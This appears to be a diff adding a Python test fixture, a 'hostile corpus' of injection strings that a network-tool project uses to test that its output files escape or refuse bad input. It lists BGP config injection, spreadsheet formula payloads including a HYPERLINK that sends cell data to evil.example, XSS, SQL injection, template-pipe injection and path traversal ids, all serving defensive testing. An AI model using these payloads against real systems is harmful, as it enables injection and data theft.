@@ -1,0 +1,75 @@
+# -*- coding: utf-8 -*-
+# Copyright (c) kentik.kmi contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+"""The hostile corpus: names, ids and numbers an API (or whatever answers in its place) could send to break the
+files kentik.kmi writes. The simulator's ``hostile`` fault puts them into its answers (answers.py); the unit and
+integration tests check every output format against them.
+
+NAMES are valid JSON strings and valid proto strings: the client must keep them as text, cleaned, and the roles must
+escape them. BAD_IDS and BAD_NUMBERS are values the client must refuse, each with one clear error.
+"""
+
+from __future__ import annotations
+
+# Text for AS names, market names, country names and insight messages.
+NAMES = (
+    "EVIL\nprotocol bgp injected { neighbor 6.6.6.6 as 666; }",
+    "EVIL\r\nbgp as-path access-list KMI-PEERLOCK seq 1 permit .*",
+    "EVIL\rroute-map KMI-PEERLOCK-IN permit 1",
+    "}; protocol bgp x { neighbor 6.6.6.6 as 666; }; #",
+    "\"; neighbor 6.6.6.6 as 666; description \"",
+    "close */ /* open",
+    "back\\slash\\\" quote",
+    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+2",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "</td></tr></table><h1>owned</h1>",
+    "a | b | c",
+    "`code` and ``more``",
+    "**bold** _it_ [link](javascript:alert(1)) ![img](http://x/)",
+    "&lt;script&gt; &#60;b&#62;",
+    "$x^2$ ~~strike~~",
+    "NUL\x00BYTE",
+    "BELL\x07ESC\x1b[31mRED\x1b[0m",
+    "DEL\x7fC1\x85\x9bEND",
+    "\u202egnp.exe\u202c RTL override",
+    "LINE\u2028SEP\u2029PARA",
+    "\u2066isolate\u2069 \u200fmark\u061c",
+    "\ufeffBOM start",
+    "Ελληνικά 日本語 Türk Telekom \U0001f600",
+    "# heading\n> quote\n- item",
+    "X" * 10240,
+    "",
+    "   ",
+    "'; DROP TABLE asn; --",
+    "{{ lookup('pipe', 'id') }} {% raw %}",
+)
+
+# Market ids the client must refuse (they would land in URL paths, file names and configuration comments).
+BAD_IDS = (
+    "..",
+    ".",
+    "",
+    "us\nprotocol bgp injected { }",
+    "a/b",
+    "a b",
+    "a;b",
+    "a}b",
+    "<script>",
+    "`id`",
+    "x|y",
+    "=1+2",
+    "a\x00b",
+    "\u202eus",
+    "caf\u00e9",
+)
+
+# AS numbers out of 1..4294967295, and counts out of uint32, as JSON numbers and as the gateway's strings.
+BAD_ASNS = (0, "0", -5, "-5", "-7691730781423667", 2 ** 32, "4294967296", 2 ** 70)
+BAD_COUNTS = (-1, "-1", 2 ** 32, "18446744073709551616")
